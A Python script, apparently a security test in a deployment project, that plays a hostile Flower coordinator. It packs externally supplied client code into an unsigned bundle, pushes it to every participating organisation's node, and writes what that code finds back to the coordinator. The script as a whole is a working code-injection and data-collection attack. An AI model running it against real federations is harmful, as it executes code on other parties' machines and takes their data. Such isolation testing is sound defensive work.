"""Runs on a coordinator that has turned hostile: ships code of its own to every organisation and prints what it found.

``python3 - < hostile_bundle.py`` in the superexec container, with the code of ``hostile_client.py`` in the variable
HOSTILE_CLIENT. Flower 1.41 checks no signature of what it ships.
"""

import hashlib
import os
import time
from pathlib import Path

from flwr.cli.build import build_fab_from_files
from flwr.common.serde import fab_to_proto
from flwr.proto.control_pb2 import StartRunRequest, StreamLogsRequest
from flwr.supercore.fab import Fab

from deploy.running.flower_control import FlowerControl

BROUGHT = Path("/tmp/brought-home")
PYPROJECT = """
[project]
name = "hostile"
version = "1.0.0"
description = "looks around"
license = "Apache-2.0"

[tool.flwr.app]
publisher = "hostile"

[tool.flwr.app.components]
serverapp = "hostile.server:app"
clientapp = "hostile.client:app"
"""
SERVER = f"""
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    folder = Path({str(BROUGHT)!r})
    folder.mkdir()
    messages = [
        Message(RecordDict({{"ask": ConfigRecord({{"what": "all"}})}}), dst_node_id=node, message_type="query")
        for node in grid.get_node_ids()
    ]
    for number, reply in enumerate(grid.send_and_receive(messages, timeout=240)):
        print("HOSTILE", reply.error if reply.has_error() else "has an answer", flush=True)
        if not reply.has_error():
            (folder / str(number)).write_text(reply.content["found"]["json"])
"""
CLIENT = """
import json

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

from hostile.looking import look

app = ClientApp()

@app.query()
def query(message, context):
    found = ConfigRecord({"json": json.dumps(look())})
    return Message(RecordDict({"found": found}), reply_to=message)
"""


def bundle() -> bytes:
    """The bundle as Flower packs it."""
    files = {
        "pyproject.toml": PYPROJECT,
        "README.md": "hostile\n",
        "hostile/__init__.py": "",
        "hostile/server.py": SERVER,
        "hostile/client.py": CLIENT,
        "hostile/looking.py": os.environ["HOSTILE_CLIENT"],
    }
    content, _ = build_fab_from_files({name: text.encode() for name, text in files.items()})
    return content


def main() -> None:
    """Push the bundle, wait for its run to end, and print what it brought home, one JSON object on a line."""
    content = bundle()
    with FlowerControl(os.environ["CLOISTER_SUPERLINK"], Path(os.environ["CLOISTER_TLS_AUTHORITY"])) as control:
        fab = fab_to_proto(Fab(hashlib.sha256(content).hexdigest(), content, {}))
        number = control._client.StartRun(StartRunRequest(fab=fab)).run_id
        deadline = time.monotonic() + 300
        while time.monotonic() < deadline:
            run = control.show(number)
            if run is not None and run.is_over:
                break
            time.sleep(2)
        print("run", number, run)
        for piece in control._client.StreamLogs(StreamLogsRequest(run_id=number, after_timestamp=0.0)):
            print(piece.log_output, end="", flush=True)
    for path in sorted(BROUGHT.glob("*")):
        print("\nFOUND", path.read_text())


if __name__ == "__main__":
    main()
